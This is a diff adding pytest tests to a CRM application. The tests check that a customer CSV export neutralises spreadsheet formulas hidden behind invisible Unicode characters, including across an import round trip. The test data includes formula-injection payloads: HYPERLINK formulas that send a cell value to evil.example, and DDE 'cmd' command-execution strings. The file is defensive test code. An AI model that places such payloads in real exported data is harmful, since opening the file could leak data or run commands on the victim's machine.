@@ -142,3 +142,46 @@ def test_import_and_export_are_audited_with_counts_only(client, login_as, db):
     assert entries["import"].details == {"imported": 1, "skipped": 0}
     assert entries["import"].business_id == staff.business_id and entries["import"].actor_user_id == staff.id
     assert "export" in entries
+
+
+# What a customer (or a lead created from a caller's WhatsApp name) may call themselves so
+# that a spreadsheet opening the export runs it: a formula behind characters nobody sees.
+HIDDEN_FORMULAS = [
+    "\ufeff=HYPERLINK(\"http://evil.example/?\"&A1,\"דנה כהן\")",  # byte order mark
+    "\u200b=cmd|' /C calc'!A0",                                # zero-width space
+    "\u200f+972-50-1234567",                                   # right-to-left mark (Hebrew text)
+    "\u202b-2+3 יוסי",                                         # right-to-left embedding
+    "\u2066@SUM(1+1)*cmd|' /C calc'!A0",                       # first-strong isolate
+    "\u2060\u00a0=1+1 מיכל",                                   # word joiner, no-break space
+    "＝HYPERLINK(\"http://evil.example\",\"רונית\")",           # fullwidth equals sign
+]
+HARMLESS = ["דָּנָה כֹּהֵן", "\u200fאבי בן-דוד", "'שלום' כהן", "יעל - מספרה"]
+
+
+def test_export_guards_a_formula_hidden_behind_invisible_characters(client, login_as):
+    login_as("staff")
+    for name in HIDDEN_FORMULAS + HARMLESS:
+        r = client.post("/api/crm/customers", json={"name": name, "notes": name})
+        assert r.status_code == 201, r.get_json()
+    raw = client.get("/api/crm/customers/export").get_data().decode("utf-8-sig")
+    cells = {row[1]: row[4] for row in list(csv.reader(io.StringIO(raw)))[1:]}
+    for name in HIDDEN_FORMULAS:
+        # A leading apostrophe is what makes a spreadsheet show the cell as text.
+        assert "'" + name in cells, f"{name!r} exported unguarded"
+        assert cells["'" + name] == "'" + name  # the notes column too
+    for name in HARMLESS:
+        assert cells[name] == name  # nothing to guard: exported as typed
+
+
+def test_guarded_cells_come_back_unchanged_through_export_and_import(client, login_as, make_business, logout, db):
+    login_as("staff")
+    names = HIDDEN_FORMULAS + HARMLESS + ["'=SUM(A1)", "''+1 דנה"]  # apostrophes typed by the person stay
+    for name in names:
+        assert client.post("/api/crm/customers", json={"name": name}).status_code == 201
+    exported = client.get("/api/crm/customers/export").get_data()
+    logout()
+    target = login_as("staff", business=make_business("יעד"))
+    r = _import(client, exported)
+    assert r.status_code == 201, r.get_json()
+    copied = sorted(c.name for c in db.session.query(Customer).filter_by(business_id=target.business_id))
+    assert copied == sorted(names)
